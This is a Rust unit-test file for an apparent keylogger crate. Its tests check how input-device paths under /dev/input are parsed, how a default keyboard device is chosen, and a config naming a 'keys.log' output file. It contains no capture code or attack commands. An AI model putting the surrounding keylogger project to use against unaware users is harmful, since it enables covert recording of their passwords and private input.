use keylogger::config::Config;
use keylogger::device::{device_paths, get_default_device};

fn paths(listing: &str) -> Vec<String> {
    device_paths(listing.as_bytes())
        .into_iter()
        .map(|p| String::from_utf8(p).unwrap())
        .collect()
}

#[test]
fn one_handler_gives_one_path() {
    assert_eq!(paths("event3\n"), vec!["/dev/input/event3".to_string()]);
}

#[test]
fn handlers_in_listed_order() {
    assert_eq!(
        paths("  event3\nevent12\r\n\t"),
        vec!["/dev/input/event3".to_string(), "/dev/input/event12".to_string()]
    );
}

#[test]
fn empty_listing_gives_bare_directory() {
    assert_eq!(paths(""), vec!["/dev/input/".to_string()]);
    assert_eq!(paths(" \n "), vec!["/dev/input/".to_string()]);
}

#[test]
fn default_device_needs_exactly_one() {
    assert_eq!(get_default_device(vec![b"/dev/input/event3".to_vec()]), Some(b"/dev/input/event3".to_vec()));
    assert_eq!(get_default_device(vec![]), None);
    assert_eq!(get_default_device(vec![b"a".to_vec(), b"b".to_vec()]), None);
}

#[test]
fn config_keeps_its_paths() {
    let c = Config::new("/dev/input/event3".to_string(), "keys.log".to_string());
    assert_eq!(c.device_path, "/dev/input/event3");
    assert_eq!(c.filename, "keys.log");
}
